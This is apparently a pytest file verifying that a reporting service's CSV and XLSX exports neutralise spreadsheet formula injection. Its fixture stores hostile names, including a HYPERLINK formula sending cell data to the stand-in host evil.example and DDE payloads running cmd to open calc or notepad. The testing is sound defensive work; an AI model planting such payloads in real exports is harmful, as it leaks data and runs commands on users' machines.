"""No formulas in exports (issue 14, item 10; OWASP "CSV Injection"): report CSV and XLSX files,
over HTTP and from the CLI, whose labels come from hostile stored names."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import httpx
import pytest
from openpyxl import load_workbook
from sqlalchemy import update
from sqlalchemy.ext.asyncio import AsyncSession

from service.catalog.models import Major, School
from service.config import Settings
from service.reports.export import FORMULA_TRIGGERS, neutralise
from tests.reports import worked_case
from tests.reports.test_reports_api import Q, _cli

HOSTILE_SCHOOLS = {
    "4144010001": '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "4144030001": "@SUM(1+1)*cmd|' /C calc'!A0",
}
HOSTILE_MAJORS = {"730801": "+1+cmd|' /C notepad'!A0", "740202": "-2+3+cmd|' /C calc'!A0"}
TAB_CR = "\t=1+1"


@pytest.fixture
async def hostile(session: AsyncSession) -> dict[str, int]:
    ids = await worked_case.load(session)
    for code, name in HOSTILE_SCHOOLS.items():
        await session.execute(update(School).where(School.code == code).values(name=name))
    for code, name in HOSTILE_MAJORS.items():
        await session.execute(update(Major).where(Major.code == code).values(name=name))
    await session.commit()
    return ids


HOSTILE = [*HOSTILE_SCHOOLS.values(), *HOSTILE_MAJORS.values()]


def test_neutralise_prefixes_every_trigger_and_leaves_numbers() -> None:
    for trigger in FORMULA_TRIGGERS:
        assert neutralise(trigger + "1+1") == "'" + trigger + "1+1"
    assert neutralise("天河职校") == "天河职校" and neutralise(-3) == -3 and neutralise(54.5) == 54.5
    assert neutralise(TAB_CR) == "'" + TAB_CR


def _check_csv(content: bytes) -> None:
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_TRIGGERS)], "a CSV cell a spreadsheet reads as a formula"
    for name in HOSTILE:
        assert "'" + name in cells, name


def _check_xlsx(content: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert not any("<f>" in xml or "<f " in xml for xml in sheets), "a formula in the workbook"
    wb = load_workbook(io.BytesIO(content))
    texts = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts[cell.value] = cell
    for name in HOSTILE:
        assert name in texts and texts[name].data_type == "s" and texts[name].quotePrefix, name


def test_report_exports_carry_no_formula(client: httpx.Client, hostile: dict[str, int]) -> None:
    r = client.get("/reports", params={**Q, "format": "csv"})
    assert r.status_code == 200, r.text
    _check_csv(r.content)
    r = client.get("/reports", params={**Q, "format": "xlsx"})
    assert r.status_code == 200, r.text
    _check_xlsx(r.content)


def test_cli_report_exports_carry_no_formula(settings: Settings, tmp_path: Path, hostile: dict[str, int]) -> None:
    args = [
        "report",
        "--scope",
        "all",
        "--as-of",
        "2025-12-31",
        "--cohort",
        "2025",
        "--recorded-before",
        "2026-01-01T00:00:00Z",
        "--threshold",
        "1",
    ]
    for fmt, check in (("xlsx", _check_xlsx), ("csv", _check_csv)):
        p = _cli(settings, *args, "--format", fmt, "--output", str(tmp_path / f"r.{fmt}"))
        _, err = p.communicate(timeout=120)
        assert p.returncode == 0, err.decode()
        check((tmp_path / f"r.{fmt}").read_bytes())
